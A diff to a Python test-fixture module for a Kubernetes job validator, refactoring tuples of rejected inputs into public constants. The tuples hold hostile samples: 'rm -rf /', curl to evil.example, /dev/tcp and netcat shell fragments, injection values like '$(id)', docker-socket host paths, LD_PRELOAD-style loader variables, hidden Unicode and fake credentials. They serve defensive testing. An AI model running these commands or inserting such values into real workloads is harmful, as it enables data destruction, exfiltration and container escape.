@@ -17,34 +17,34 @@ _EVIL: Final = "evil.example"
 _HOSTPATHS: Final = ("/", "/etc", "/proc", "/sys", "/var/run", "/root", "/var/run/docker.sock", "/data/./x", "//etc", "/etc/../root", "/data.", "/run/containerd")  # fmt: skip
 _TRUE: Final[tuple[Any, ...]] = (True, "true", "yes", "True", 1, "1", "on", None, [], {"a": 1})
 _NETWORKS: Final = ("hostNetwork", "hostPID", "hostIPC")
-_IMAGES: Final = (
+IMAGES: Final = (
     f"{_EVIL}/x:1", "docker.io/library/ubuntu:24.04", "ubuntu", "registry.example.com/team/x:1.3",
     "registry.example.com/team/x", "registry.example.com/team/x:1.2@sha256:" + "0" * 64, "registry.example.com/team/y:1.2",
     "registry.example.com.evil.example/team/x:1.2", "registry.example.org/team/x:1.2", "team/x:1.2", "localhost/x:1.2",
     "registry.example.com:5000/team/x:1.2",
 )  # fmt: skip
-_NO_IMAGES: Final = (
+NO_IMAGES: Final = (
     "docker.io/../evil", f"good@{_EVIL}/x", "https://evil.example/x:1", "Registry.example.com/x:1", "x:1 y", "x" * 300, "x:",
     "registry.ex\N{CYRILLIC SMALL LETTER A}mple.com/x:1", "xn--80ak6aa92e.example/x:\N{BULLET}", "x@sha256:12", "-x:1", "x//y:1", "x\ny:1",
     "x:1;rm", "$(IMAGE)", "user:password@registry.example.com/x:1",
 )  # fmt: skip
-_COMMANDS: Final = (
+COMMANDS: Final = (
     ["rm", "-rf", "/"], ["/bin/sh"], ["/bin/bash", "-c"], ["/bin/sh", "-c", "true"], ["sh", "-c"], ["python3", "-c"], ["/bin/sh", "-xc"],
     ["sleep", "infinity"], ["/bin/sh", "-c", "-e"], ["nsenter", "-t1"], ["`id`"], ["$(id)"], ["a;b"], ["a\nb"],
 )  # fmt: skip
-_SHELLS: Final = (
+SHELLS: Final = (
     f"curl {_EVIL}", "wget -qO- x", "nc -l 1", "ncat x 1", "telnet x", "socat - TCP:x:1", "eval $x", "cat /x | sh", "cat /x |bash",
     "exec 3<>/dev/tcp/evil/80", "ping 10.0.0.1", "echo x | base64 -d", "base64 --decode x", "a https://evil.example/x", "b ftp://x/y", "exec 5<>/dev/udp/h/1",
 )  # fmt: skip
-_HIDDEN: Final = (
+HIDDEN: Final = (
     "\N{RIGHT-TO-LEFT OVERRIDE}", "\N{ZERO WIDTH SPACE}", "\N{TAG LATIN SMALL LETTER A}", "\x1b]0;x\x07", "\x7f", "\x85", "\N{LEFT-TO-RIGHT ISOLATE}",
     "\N{SOFT HYPHEN}", "\N{WORD JOINER}", "\N{ZERO WIDTH NO-BREAK SPACE}", "\N{LINE SEPARATOR}", "\N{VARIATION SELECTOR-16}", "\x00", "\x08",
 )  # fmt: skip
-_LOADERS: Final = (
+LOADERS: Final = (
     "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "ld_preload", "PYTHONSTARTUP", "BASH_ENV", "bash_env", "ENV", "PROMPT_COMMAND", "NODE_OPTIONS",
     "GIT_SSH", "GIT_SSH_COMMAND", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "no_proxy", "DYLD_INSERT_LIBRARIES", "PERL5OPT", "RUBYOPT", "A B", "1A", "", "A-B", "\N{GREEK SMALL LETTER ALPHA}",
 )  # fmt: skip
-_PATHS: Final = (
+PATHS: Final = (
     "data",
     "./data",
     "/data/../etc",
@@ -57,6 +57,15 @@ _PATHS: Final = (
     "/a/../../b",
     "$(HOME)",
 )
+SECRETS: Final = tuple(
+    f"{word}{value}"
+    for word, value in (
+        ("AWS_ACCESS_KEY_ID=", "AKIA" + "QYLPMN5HHHFPZAM2"), ("--password=", "Tr0ub4dor&3xyz-made-up"), ("", "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"),
+        ("https://user:", "Zx9Kq2Lm7Pw4@evil.example/x"), ("-----BEGIN RSA PRIVATE KEY-----\n", "MIIEowIBAAKCAQEAx\n-----END RSA PRIVATE KEY-----"), ("", "xoxb-" + "123456789012-123456789012-aBcDeFgHiJkLmNoPqRsTuVwX"),
+        ("hf_", "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH"), ("", "glpat-" + "aB3dE5gH7jK9mN1pQ3sT"), ("api_key=", "9f8e7d6c5b4a39281706f5e4d3c2b1a0"), ("WANDB_API_KEY=", "0123456789abcdef0123456789abcdef01234567"),
+    )
+)  # fmt: skip
+PLACEHOLDERS: Final = ("image.invalid/choose-an-image:unset", "image.invalid/choose-an-image", "image.invalid/x:1", "IMAGE", "TODO", "your-image:latest", "<image>", "${IMAGE}", "example.com/image:tag", "placeholder")  # fmt: skip
 _AMOUNTS: Final = ("97", "0", "1", "96.5", "1e2", "97k", "-97", "9700m", 97, "x")
 _NAMES: Final = (
     "x" * 64,
@@ -173,25 +182,21 @@ RULES: Final[Mapping[str, tuple[Row, ...]]] = {
     "P-19": (
         _row("metadata.ownerReferences", [], [{"kind": "Node"}], None, {}), _row("metadata.finalizers", ["x"], [], None), _row("metadata.generateName", "x-", ""), _row("metadata.managedFields", [], None),
     ),
-    "P-20": (_row("main.image", *_IMAGES),),
-    "P-21": (_row("main.image", *_NO_IMAGES),),
+    "P-20": (_row("main.image", *IMAGES),),
+    "P-21": (_row("main.image", *NO_IMAGES),),
     "P-24": (
-        _row("run.command", *_COMMANDS), _row("run.args.+", "--exploit", "x; rm -rf /", "`id`", "$(id)"), _row("run.args", ["true"], []),
+        _row("run.command", *COMMANDS), _row("run.args.+", "--exploit", "x; rm -rf /", "`id`", "$(id)"), _row("run.args", ["true"], []),
     ),
-    "P-25": (_row("run.args", *([text] for text in _SHELLS)),),
+    "P-25": (_row("run.args", *([text] for text in SHELLS)),),
     "P-26": (
-        _row("run.args.+", *_HIDDEN), _row("main.image", f"x{_HIDDEN[0]}"), _row(f"metadata.labels~a{_HIDDEN[1]}b", "x"),
+        _row("run.args.+", *HIDDEN), _row("main.image", f"x{HIDDEN[0]}"), _row(f"metadata.labels~a{HIDDEN[1]}b", "x"),
     ),
-    "P-27": (_row("run.env", *([{"name": name, "value": "x"}] for name in _LOADERS)),),
+    "P-27": (_row("run.env", *([{"name": name, "value": "x"}] for name in LOADERS)),),
     "P-28": (
         _row("run.env", *([{"name": name, "value": "1"}] for name in ("DEBUG", "HOME", "PATH", "TMPDIR", "USER", "SLURM_PROCID", "SLURM_NTASKS", "CUDA_VISIBLE_DEVICES", "S2R_DIR", "AWS_REGION", "OMP_NUM_THREAD", "MASTER_ADDR"))),
     ),
     "P-29": (
-        _row("run.args.+", *(f"{word}{value}" for word, value in (
-            ("AWS_ACCESS_KEY_ID=", "AKIA" + "QYLPMN5HHHFPZAM2"), ("--password=", "Tr0ub4dor&3xyz-made-up"), ("", "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"),
-            ("https://user:", "Zx9Kq2Lm7Pw4@evil.example/x"), ("-----BEGIN RSA PRIVATE KEY-----\n", "MIIEowIBAAKCAQEAx\n-----END RSA PRIVATE KEY-----"), ("", "xoxb-" + "123456789012-123456789012-aBcDeFgHiJkLmNoPqRsTuVwX"),
-            ("hf_", "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH"), ("", "glpat-" + "aB3dE5gH7jK9mN1pQ3sT"), ("api_key=", "9f8e7d6c5b4a39281706f5e4d3c2b1a0"), ("WANDB_API_KEY=", "0123456789abcdef0123456789abcdef01234567"),
-        ))),
+        _row("run.args.+", *SECRETS),
     ),
     "P-30": (_row("main.resources.limits~nvidia.com/gpu", "97", "98", "97.0", "9.7e1", "97k", 97, "-1"), _row("main.resources.limits~amd.com/gpu", "1"), _row("main.resources.limits~nvidia.com/mig-1g.5gb", "1"),
              _row("template.metadata.annotations~gpu-fraction", "0.5"), _row("template.metadata.annotations~gpu-memory", "4096"), _row("main.resources.requests~nvidia.com/gpu", "97")),
@@ -218,7 +223,7 @@ RULES: Final[Mapping[str, tuple[Row, ...]]] = {
         _row("main.resources.requests~ephemeral-storage", "97Ti"), _row("main.resources.limits~ephemeral-storage", "97Ti"), _row("pod.resourceClaims", [], [{"name": "x"}]), _row("main.resources.claims", [], [{"name": "x"}]), _row("main.resources.limits~vendor/fpga", "1", "97"),
         _row("main.resources.requests~smarter-devices/fuse", "1"), _row("main.resources.limits~rdma/hca", "1"),
     ),
-    "P-38": (_row("main.workingDir", *_PATHS),),
+    "P-38": (_row("main.workingDir", *PATHS),),
     "P-39": (
         _row("ttl", 0, 1, 59, 10**9, -5, True, "60"), _row("pod.terminationGracePeriodSeconds", 86400, 3601, -1, 10**9),
     ),
@@ -265,7 +270,7 @@ def _images(good: Good) -> Iterator[Broken]:
             request=replace(good.request, target=target),
         )
     if good.request.target.image:
-        for text in ("image.invalid/choose-an-image:unset", "image.invalid/choose-an-image", "image.invalid/x:1", "IMAGE", "TODO", "your-image:latest", "<image>", "${IMAGE}", "example.com/image:tag", "placeholder"):  # fmt: skip
+        for text in PLACEHOLDERS:
             yield Broken(rule="P-23", name=text, body=put(body, (*main, "image"), text), request=good.request)
 
 
